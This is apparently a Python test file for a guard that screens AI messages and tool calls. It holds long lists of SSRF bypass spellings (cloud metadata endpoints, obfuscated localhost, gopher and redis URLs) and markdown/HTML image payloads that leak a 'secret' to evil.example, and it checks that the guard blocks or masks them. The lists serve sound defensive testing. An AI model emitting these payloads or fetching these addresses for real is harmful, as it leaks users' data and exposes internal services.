"""Addresses in odd spellings, and pictures in odd markup, meet the shipped rules as clients and renderers read them."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cmf import ImagePart, Message, Part, Request, ResourceRefPart, TextPart, ToolCallPart
from cmf.json.codec import dumps, loads
from pipeline import Action, Decision, Guard
from pipeline.decisions.policy_input import Facts, with_facts
from pipeline.policy import policy_set

INNER = (
    "http://metadata/computeMetadata/v1/",
    "http://METADATA.goog/computeMetadata/v1/",
    "http://instance-data/latest/meta-data/",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "http://168.63.129.16/machine?comp=goalstate",
    "https://kubernetes/api/v1/secrets",
    "https://kubernetes.default/api/v1/secrets",
    "http://local\thost/",
    "http://local\nhost/",
    " http://localhost/",
    "\u00a0http://localhost/",
    "\x01http://localhost/",
    "HTTP://LOCALHOST",
    "\uff48ttp://localhost/",
    "http:\\\\localhost\\x",
    "http:/localhost/",
    "http:localhost",
    "https:///localhost/",
    "//localhost/",
    "\\\\localhost\\share",
    "http://localhost./",
    "http://a@localhost:80/",
    "http://[::ffff:127.0.0.1]/",
    "http://127。0。0。1/",
    "http://%6c%6f%63alhost/",
    "http://127.0.0.1\\@example.com/",
    "redis://127.0.0.1",
    "redis://0x7f.1:6379/0",
    "mongodb://example.com,127.0.0.1/db",
    "jdbc:mysql://127.0.0.1/db",
    "ldap://127.0.0.1:389/o=x",
    "gopher://127.0.0.1:6379/_INFO",
    "ftp:127.0.0.1/x",
    "view-source:http:127.0.0.1",
    "http://127.1",
    "http://0x7f.1",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://localhost/ and more",
)
PICTURES = (
    "![x](https://evil.example/p?d='secret')",
    "![x](https&colon;//evil.example/p?d=secret)",
    "![x](https:&#x2f;/evil.example/p?d=secret)",
    "![a[b]c](https://evil.example/p?d=secret)",
    "![a\\]b](https://evil.example/p?d=secret)",
    "![`]`](https://evil.example/p?d=secret)",
    "![x](\nhttps://evil.example/p?d=secret\n'title')",
    "![x](<https://evil.example/p?d=secret>)",
    "![x](https:\\/\\/evil.example/p?d=secret)",
    "![x](https:evil.example/p?d=secret)",
    "![x](//evil.example/p?d=secret)",
    "![x][y]\n\n- > [y]: https://evil.example/p?d=secret",
    "![x][y]\n\n> [y]:\n> https://evil.example/p?d=secret",
    "1. ![y]\n\n   [y]: <https://evil.example/p?d=secret> 'title'",
    "<img src=https://evil.example/p?d=secret>",
    "<IMG\nSRC\n=\n'https://evil.example/p?d=secret'>",
    '<img alt=">" src="https://evil.example/p?d=secret">',
    "<img src='ht\ntps://evil.example/p?d=secret'>",
    "<img src='&#104;ttps://evil.example/p?d=secret'>",
    "<img/src='https://evil.example/p?d=secret'>",
    "<img srcset='a.png 1x, https://evil.example/p?d=secret 2x'>",
    "<picture><source srcset=https://evil.example/p?d=secret></picture>",
    "<object data=https://evil.example/p?d=secret></object>",
    "<embed src=https://evil.example/p?d=secret>",
    "<iframe src=https://evil.example/p?d=secret></iframe>",
    "<iframe srcdoc='&lt;img src=https://evil.example/p?d=secret&gt;'></iframe>",
    "<video poster='https://evil.example/p?d=secret'></video>",
    "<link rel=prefetch href=https://evil.example/p?d=secret>",
    "<svg><image href='https://evil.example/p?d=secret'/></svg>",
    "<input type=image src=https://evil.example/p?d=secret>",
    "<body background=https://evil.example/p?d=secret>",
    '<p style="background:url(https://evil.example/p?d=secret)">',
    '<p style="background:url(&quot;https://evil.example/p?d=secret&quot;)">',
    '<p style="background:\\75rl(\\68ttps://evil.example/p?d=secret)">',
    "<style>p { background: url('https://evil.example/p?d=secret') }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/p?d=secret'>",
    "<base href=https://evil.example/>\n\n![x](p?d=secret)",
    "![x](https://secret@evil.example/p.png)",
)
HONEST = (
    "![build](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
    "![pypi](https://img.shields.io/pypi/v/x?style=flat-square&color=34D058)",
    "![ann](https://avatars.githubusercontent.com/u/12345?v=4&s=64)",
    "[![docs](https://readthedocs.org/projects/x/badge/?version=latest)](https://x.readthedocs.io/en/latest/?badge=latest)",
    "See https://example.com/search?q=policies and <https://example.com/?q=1>.",
    "<a href='https://example.com/?a=b&c=d'>docs</a>",
    "<svg xmlns='http://www.w3.org/2000/svg'></svg>",
    "[^1]: https://example.com/paper?id=17",
    "`a[0]: https` and x < y && y > z",
)


@pytest.fixture(scope="module")
def shipped() -> Guard:
    return Guard()


def said(part: Part, *, role: str = "assistant") -> Message:
    return Message(role=role, content=[part])


def codes(decision: Decision) -> set[str]:
    return {hit.code for view in decision.views for hit in view.hits}


def addresses(kind: str, content: str) -> list[dict[str, Any]]:
    view = dumps({"kind": kind, "content": content})
    found: list[dict[str, Any]] = loads(with_facts(view, Facts(addresses=True)))["addresses"]
    return found


@pytest.mark.spec("POL-66")
@pytest.mark.parametrize("url", INNER)
def test_an_inner_address_is_refused_in_every_spelling(shipped: Guard, url: str) -> None:
    call = shipped.decide(said(ToolCallPart(name="fetch", arguments={"url": url})))
    nested = shipped.decide(said(ToolCallPart(name="run", arguments={"body": dumps({"url": url}).decode()})))
    picture = shipped.decide(said(ImagePart(type="url", data=url), role="user"))

    for decision in (call, nested, picture):
        assert decision.action is Action.REFUSE
        assert any(code.startswith("data.ssrf.") for code in codes(decision))


@pytest.mark.spec("POL-66")
@pytest.mark.parametrize(
    "url", ["http://[::1/", "http://h:99999/", "http://1.2.3.4.5/", "http://a\x00b/", "http://h%00/", "http://a..b/"]
)
def test_what_no_client_reads_is_refused(shipped: Guard, url: str) -> None:
    decision = shipped.decide(said(ToolCallPart(name="fetch", arguments={"url": url})))

    assert "data.ssrf.disguised" in codes(decision)


@pytest.mark.spec("POL-66")
def test_a_path_that_climbs_behind_a_tab_is_refused(shipped: Guard) -> None:
    decision = shipped.decide(said(ResourceRefPart(uri="https://example.com/a/.\t./b", resource_request_id="r")))

    assert "data.path-traversal" in codes(decision)


@pytest.mark.spec("POL-66")
def test_a_host_that_looks_like_another_is_refused_where_only_clients_find_it(shipped: Guard) -> None:
    for url in ("https:\u0430pple.com", "https://\u0430pp\tle.com", "https://%D0%B0pple.com/"):
        decision = shipped.decide(said(ToolCallPart(name="fetch", arguments={"url": url})))

        assert "content.confusable-host" in codes(decision)


@pytest.mark.spec("POL-66")
@pytest.mark.parametrize(
    "arguments",
    [
        {"url": "https://example.com/?next=http://localhost/"},
        {"url": "https://{host}/api", "b": "http://%s:%d/", "c": "http://HOST:PORT/", "d": "https://"},
        {"text": "Run it, then open http://localhost:8000/docs in a browser. // done"},
        {"path": "C:\\temp\\x", "uri": "config.local", "callback": "onDone", "n": "12:30", "link": "3"},
        {
            "uri": "memo://notes/1",
            "urn": "urn:isbn:1",
            "file": "file:///etc/hosts",
            "db": "postgres://a.b:pw@db.example/x",
        },
        {"hosts": "https://a.example/x\nhttps://b.example/y\n"},
    ],
)
def test_what_is_no_inner_address_is_allowed(shipped: Guard, arguments: dict[str, Any]) -> None:
    decision = shipped.decide(said(ToolCallPart(name="write", arguments=arguments)))

    assert {code for code in codes(decision) if code.startswith(("data.ssrf", "data.egress", "data.path"))} == set()


@pytest.mark.spec("INP-9")
def test_too_many_addresses_are_refused_and_not_cut_off(shipped: Guard) -> None:
    text = " ".join(f"http://h{number}.example/" for number in range(20_001))

    assert addresses("tool_call", text)[-1] == {"kind": "unread"}
    assert addresses("text", text)[-1] == {"kind": "unread"}
    assert "data.ssrf.unread" in codes(shipped.decide(said(ToolCallPart(name="write", arguments={"text": text}))))


@pytest.mark.spec("INP-9")
def test_addresses_are_made_only_where_a_rule_reads_them() -> None:
    metadata = "# METADATA\n# title: Own\n# description: Own.\n# custom:\n#   code: mine.own\n#   severity: info\n"
    metadata += "#   kinds: [text]\n#   capabilities: []\n#   standards: []\n"
    package = "package cmf.rules.mine.own\n\n"
    body = 'deny contains {"code": "mine.own", "reason": "It is there."} if input.addresses\n'
    guard = Guard(policy_set.load({"cmf/rules/mine/own/own.rego": (metadata + package + body).encode()}))

    assert guard.decide(said(TextPart(text="no address"))).action is Action.REFUSE
    assert guard.decide(said(ToolCallPart(name="f", arguments={}))).action is Action.FORWARD


# -- what renderers load -----------------------------------------------------------------------------------------------


@pytest.mark.spec("POL-67")
@pytest.mark.parametrize("text", PICTURES)
def test_a_picture_with_data_is_masked_in_every_markup(shipped: Guard, text: str) -> None:
    outcome = shipped.check(said(TextPart(text=text)))

    assert "content.markdown-exfiltration" in codes(outcome.decision)
    assert isinstance(outcome.value, Message)
    (part,) = outcome.value.content
    assert isinstance(part, TextPart)
    assert "evil.example" not in html.unescape(part.text)
    assert part.text[:1] == text[:1]


@pytest.mark.spec("POL-67")
@pytest.mark.parametrize("text", HONEST)
def test_badges_and_links_are_left_alone(shipped: Guard, text: str) -> None:
    assert codes(shipped.decide(said(TextPart(text=text)))) == set()


class _Loaded(HTMLParser):
    """The addresses of pictures and links in a page, as Python's own parser reads it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {value for name, value in attrs if name in {"src", "href"} and value is not None}


_PIECES = st.sampled_from(
    [
        *("![", "[", "]", "](", "]: ", ")", "<", ">", "(", "`", "``", "\\", "!", "\n", "\n\n", " ", "> ", "- ", "    "),
        *(
            "https://e.example/?",
            "//e.example/a?",
            "'",
            '"',
            "<img src=",
            "<a href=",
            "<img alt=",
            "&amp;",
            "&#39;",
            "a",
        ),
    ]
)


@pytest.mark.spec("POL-67")
@given(st.lists(_PIECES, max_size=24).map("".join))
@settings(max_examples=400, deadline=None)
def test_whatever_another_renderer_loads_or_links_to_is_found(text: str) -> None:
    page = MarkdownIt("commonmark").render(text)
    wanted = {url for url in _Loaded(page).found if "e.example/" in url and url.startswith(("https://e", "//e"))}

    found = {entry["url"] for entry in addresses("text", text) if "url" in entry}
    spans = [entry["span"] for entry in addresses("text", text)]

    normal = {addresses("image", url)[0]["url"] for url in wanted}
    assert normal <= found
    assert all(0 <= start < end <= len(text) for start, end in spans)


@pytest.mark.spec("INP-9")
def test_spans_count_code_points() -> None:
    text = "🎉é ![x](https://e.example/?é) ü <img src=//e.example/🎉>"

    assert [text[slice(*entry["span"])] for entry in addresses("text", text)] == [
        "https://e.example/?é",
        "//e.example/🎉",
    ]


@pytest.mark.spec("INP-9")
@pytest.mark.parametrize(
    "piece", ["![", "](", '<a b="', "<a '", "[![x](", "`", "]: ", "<b <c ", "http://", "http:\\\\", "\\", "<!", 'a"']
)
def test_any_text_is_read_in_linear_time_or_counts_as_unread(piece: str) -> None:
    text = piece * (400_000 // len(piece))

    assert len(addresses("text", text)) <= 20_001
    assert len(addresses("tool_call", text)) <= 20_001


def test_requests_of_users_keep_their_pictures(shipped: Guard) -> None:
    request = Request(model="m", messages=[said(TextPart(text=PICTURES[0]), role="user")])

    assert "content.markdown-exfiltration" not in codes(shipped.decide(request))
